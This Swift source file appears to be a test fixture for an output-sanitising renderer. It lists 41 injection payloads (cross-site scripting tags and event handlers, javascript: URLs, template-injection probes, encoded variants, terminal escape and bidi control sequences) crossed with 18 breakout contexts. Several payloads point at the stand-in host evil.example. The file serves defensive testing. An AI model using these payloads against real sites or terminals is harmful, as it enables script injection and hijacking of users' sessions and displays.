/// Texts that try to become more than text: each payload in each context that it could break out of.
///
/// A face that shows one of them has the same elements, attributes and scripts as with a harmless
/// text, and writes no control sequence of it.
package enum HostileTexts {
    /// A text without any meaning, with which a face is compared.
    package static let harmless = "plain words"

    /// All 738 texts: 41 payloads in 18 contexts.
    package static let all = contexts.flatMap { context in payloads.map { context + $0 } }

    /// The ends of elements, values of attributes, comments, scripts, styles, JSON, URLs, templates
    /// and lines.
    package static let contexts = [
        "", "\">", "'>", "` ", "\" ", "' ", "--><!-->", "</script>", "</style>",
        "</textarea></title></select></option></button></label>", "]]>", "\\\"};",
        "\"}],\"x\":[{\"",
        "}}", "%>", "*/", "javascript:", "\r\n\r\n",
    ]

    /// The parts that would do something, were they not text.
    package static let payloads = elements + attributes + templates + sequences

    private static let elements = [
        "<script>alert(1)</script>", "<ScRiPt/src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<object data=data:text/html,x>", "<embed src=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example>", "<style>@import'//evil.example'</style>",
        "<form action=//evil.example><input name=title>", "<button formaction=//evil.example>",
        "<details open ontoggle=alert(1)>", "<math><mi xlink:href=\"data:x,y\">",
        "<template><b>", "<!--", "<![CDATA[<b>", "<?php echo 1 ?>", "</form></div></body></html>",
    ]

    private static let attributes = [
        "autofocus onfocus=alert(1) x=", "style=position:fixed;inset:0 x=", "formaction=//evil x=",
        "href=javascript:alert(1) x=", "\"/onmouseover=\"alert(1)", "'/onmouseover='alert(1)",
    ]

    private static let templates = [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{attribute.value}", "%{count} %1$@ {0}",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "\\u003cscript\\u003e",
        "+ADw-script+AD4-", "%3Cscript%3E",
    ]

    private static let sequences = [
        "\u{1B}[2J\u{1B}]0;gone\u{7}", "\u{9B}31m\u{90}q\u{9C}",
        "\u{202E}\u{2066}desrever\u{0}\u{8}\u{7F}",
        "\u{1B}]8;;http://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\",
    ]
}
